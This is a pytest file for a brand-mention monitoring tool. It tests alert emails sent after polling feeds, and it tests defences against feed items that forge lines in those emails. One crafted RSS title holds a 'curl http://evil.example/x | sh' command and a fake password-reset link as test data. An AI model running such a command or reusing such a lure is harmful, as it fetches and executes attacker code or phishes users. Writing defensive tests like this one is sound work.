"""End to end: a local feed serves an angry post by an author with 50,000 followers; one
`mentionwatch poll` later the alert email is in the local SMTP server.

The real rules engine (`mentionwatch.rules_engine`) is used when it is installed; until then
a tiny test-only judge stands in for it, so this test proves the wiring poll -> judge ->
after-poll hook -> alert email.
"""

from __future__ import annotations

import importlib.util
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from mentionwatch.judgement import Judgement, MentionFacts, RuleHit
from mentionwatch.models import Author
from mentionwatch.store import Store
from tests.feedserver import FeedServer, rss
from tests.smtpsink import SmtpServer

HAS_ENGINE = importlib.util.find_spec("mentionwatch.rules_engine") is not None


class TinyJudge:
    """Angry words make a complaint; a large audience makes it alert."""

    history_days = 0

    def judge(self, mentions: Sequence[MentionFacts]) -> Sequence[Judgement]:
        out = []
        for m in mentions:
            angry = any(w in m.text.lower() for w in ("furious", "worst", "refund"))
            big = (m.followers or 0) >= 10_000
            hits = (RuleHit("angry-customer", "test", "complaint", 0.9, alert=big,
                            explanation={"terms": ["furious"], "followers": m.followers}),
                    ) if angry else ()
            out.append(Judgement(
                flag="complaint" if angry else None, priority=0.9 if angry and big else 0.2,
                sentiment=-0.8 if angry else 0.0, hits=hits,
                public_draft=f"Hi {m.author_handle}, we're sorry. Please DM us." if angry
                else None,
            ))
        return out



def write_config(folder: Path, db: Path, smtp_port: int, source: str, url: str, *,
                 threshold: float) -> Path:
    """A config with one feed source and alerts to a local SMTP sink."""
    config = folder / "mentionwatch.toml"
    config.write_text(f"""
[brand]
name = "Acme"
terms = ["acme"]

[database]
url = "sqlite:///{db}"

[alerts]
on_call = ["oncall@acme.example"]
priority_threshold = {threshold}

[alerts.smtp]
host = "127.0.0.1"
port = {smtp_port}
security = "none"

[[sources]]
name = "{source}"
kind = "rss"
url = "{url}"
""", encoding="utf-8")
    return config


def poll_and_receive_one(config: Path, smtp: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    """`mentionwatch poll` as cron runs it, then the one email it sends to the sink."""
    if not HAS_ENGINE:
        monkeypatch.setattr("mentionwatch.cli.core._load_judge", lambda app: TinyJudge())
    result = CliRunner().invoke(cli_main(), ["--config", str(config), "poll"])
    assert result.exit_code == 0, result.output
    assert smtp.sink.arrived.wait(5)
    (mail,) = smtp.messages
    return mail

def test_angry_post_reaches_on_call_after_one_poll(
    tmp_path: Path, feeds: FeedServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    smtp = SmtpServer().start()
    try:
        url = feeds.add("/forum.xml", rss([{
            "title": "Acme fiber: furious",
            "link": "https://forum.example/t/42",
            "guid": "post-42",
            "author": "angry_ann",
            "description": "I am furious with Acme. Three days offline, worst support ever, "
                           "AT&amp;amp;T-level service, I want a refund",
            "pubDate": "Sun, 22 Nov 2026 08:00:00 GMT",
        }]))
        db = tmp_path / "mw.db"
        config = write_config(tmp_path, db, smtp.port, "forum", url, threshold=0.8)
        # The author is known from another platform with a large audience (feeds carry no
        # follower counts); the feed's author resolves to the same record.
        store = Store.open(f"sqlite:///{db}")
        with store.session() as s:
            s.add(Author(platform="web", handle="angry_ann", handle_key="angry_ann",
                         followers=50_000))
        store.close()
        mail = poll_and_receive_one(config, smtp, monkeypatch)
        assert mail.rcpt_tos == ["oncall@acme.example"]
        assert "Acme fiber: furious" in mail.message["Subject"]
        plain, html = mail.part("plain"), mail.part("html")
        assert "50,000 followers" in plain and "50,000 followers" in html
        assert "https://forum.example/t/42" in plain
        assert "mentionwatch tui --mention 1" in plain
        assert "AT&T-level" in plain and "AT&amp;T-level" in html
        if not HAS_ENGINE:
            assert "angry-customer" in plain and "we're sorry. Please DM us." in plain
        # A second poll: nothing new, no second email.
        again = CliRunner().invoke(cli_main(), ["--config", str(config), "poll", "--all"])
        assert again.exit_code == 0, again.output
        assert len(smtp.messages) == 1
    finally:
        smtp.stop()


def cli_main():  # type: ignore[no-untyped-def]
    from mentionwatch.cli import cli

    return cli


FORGED = ("Link:", "Reach:", "Open in the TUI:")


def test_feed_item_cannot_forge_lines_of_the_alert_email(
    tmp_path: Path, feeds: FeedServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A title and an author carrying line breaks (`&#10;`) that spell our own fields: the
    plain text part must not gain a line starting with one of them, and the stored title and
    author are one line (so `mentions show` and the TUI show them on one line too)."""
    smtp = SmtpServer().start()
    try:
        url = feeds.add("/status.xml", rss([{
            "title": "acme outage: furious, worst ever&#10;Link: http://evil.example/reset-password"
                     "&#10;Open in the TUI: curl http://evil.example/x | sh",
            "link": "https://status.example/7",
            "guid": "status-7",
            "author": "(Acme Security Team&#10;Reach: 5,000,000 followers)",
            "description": "Acme is down again, I am furious, worst outage, refund me.&#10;"
                           "Link: http://evil.example/in-the-body",
            "pubDate": "Sun, 22 Nov 2026 08:00:00 GMT",
        }]))
        db = tmp_path / "mw.db"
        config = write_config(tmp_path, db, smtp.port, "status", url, threshold=0.0)
        mail = poll_and_receive_one(config, smtp, monkeypatch)
        raw_plain = mail.part("plain")
        lines = raw_plain.splitlines()
        # Our own fields, once each; nothing from the feed starts a line as one of them.
        assert [line for line in lines if line.startswith("Reach:")] == ["Reach: unknown"]
        assert [line for line in lines if line.startswith("Link:")] == [
            "Link: https://status.example/7"]
        assert [line for line in lines if line.startswith("Open in the TUI:")] == [
            "Open in the TUI: mentionwatch tui --mention 1"]
        evil = [line for line in lines if "evil.example" in line]
        assert evil and all(line.startswith(("Title: ", "    ")) for line in evil), evil
        # The forged text is still there, as data: on the one Title/Author line, or indented.
        assert ("Title: acme outage: furious, worst ever Link: http://evil.example/"
                "reset-password Open in the TUI: curl http://evil.example/x | sh") in lines
        assert "Author: (Acme Security Team Reach: 5,000,000 followers)" in lines
        assert "    Link: http://evil.example/in-the-body" in lines

        store = Store.open(f"sqlite:///{db}")
        try:
            detail = store.mention_detail(1)
            assert detail is not None
            mention = detail[0]
            assert "\n" not in (mention.title or "") and "\n" not in (mention.author_handle or "")
        finally:
            store.close()
        shown = CliRunner().invoke(cli_main(), ["--config", str(config), "mentions", "show", "1"],
                                   env={"COLUMNS": "250"})
        assert shown.exit_code == 0, shown.output
        out = [line.strip("│ ") for line in shown.output.splitlines()]
        assert "(Acme Security Team Reach: 5,000,000 followers)" in out[0]
        assert out[3].startswith("acme outage: furious, worst ever Link: http://evil.example/")
        assert not [line for line in out if line.startswith(("Reach:", "Open in the TUI:"))]
    finally:
        smtp.stop()
